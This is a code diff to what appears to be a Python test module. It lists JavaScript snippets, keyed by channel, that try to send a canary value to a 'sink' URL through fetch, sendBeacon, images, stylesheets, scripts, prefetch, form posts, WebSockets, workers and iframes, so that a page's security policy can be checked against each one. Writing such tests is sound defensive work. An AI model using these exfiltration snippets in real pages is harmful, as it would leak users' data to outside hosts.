@@ -19,21 +19,38 @@ ANSWERS: Answers = {
     "turnover": CANARY,
 }
 
+
+def _element(name: str, keys: str, parent: str = "head") -> str:
+    """Script that puts a new element into the page."""
+    made = f"Object.assign(document.createElement('{name}'), {{{keys}}})"
+    return f"document.{parent}.append({made})"
+
+
+CARRYING = "sink + '?' + canary"
 WAYS = {
-    "fetch": "fetch(sink + '?' + canary, {mode: 'no-cors'}).catch(() => 0)",
+    "fetch": f"fetch({CARRYING}, {{mode: 'no-cors'}}).catch(() => 0)",
     "beacon": "navigator.sendBeacon(sink, canary)",
-    "image": "new Image().src = sink + '?' + canary",
-    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: sink + '?' + canary}))",
-    "script": "document.head.append(Object.assign(document.createElement('script'), {src: sink + '?' + canary}))",
-    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: sink + '?' + canary}))",
-    "form": """(() => { const form = Object.assign(document.createElement('form'), {action: sink, method: 'post', target: 'nowhere'});
-      form.append(Object.assign(document.createElement('input'), {name: 'a', value: canary}));
-      document.body.append(form); form.submit(); })()""",
+    "image": f"new Image().src = {CARRYING}",
+    "style": _element("link", f"rel: 'stylesheet', href: {CARRYING}"),
+    "script": _element("script", f"src: {CARRYING}"),
+    "prefetch": _element("link", f"rel: 'prefetch', href: {CARRYING}"),
+    "form": """(() => {
+      const form = document.createElement('form');
+      Object.assign(form, {action: sink, method: 'post', target: 'nowhere'});
+      const field = document.createElement('input');
+      form.append(Object.assign(field, {name: 'a', value: canary}));
+      document.body.append(form);
+      form.submit();
+    })()""",
     "socket": "(() => { try { new WebSocket(sink.replace('http', 'ws') + '?' + canary) } catch {} })()",
     "worker": "(() => { try { new Worker(sink + '?' + canary) } catch {} })()",
-    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: sink + '?' + canary}))",
-    "worker fetch": """(() => { const code = `fetch(${JSON.stringify(sink + '?' + canary)}, {mode: 'no-cors'}).catch(() => 0)`;
-      new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})), {type: 'module'}); })()""",
+    "frame": _element("iframe", f"src: {CARRYING}", "body"),
+    "worker fetch": """(() => {
+      const target = JSON.stringify(sink + '?' + canary);
+      const code = `fetch(${target}, {mode: 'no-cors'}).catch(() => 0)`;
+      const script = new Blob([code], {type: 'text/javascript'});
+      new Worker(URL.createObjectURL(script), {type: 'module'});
+    })()""",
 }
 """How a page taken over could try to send an answer; the page's policy has to stop each."""
 
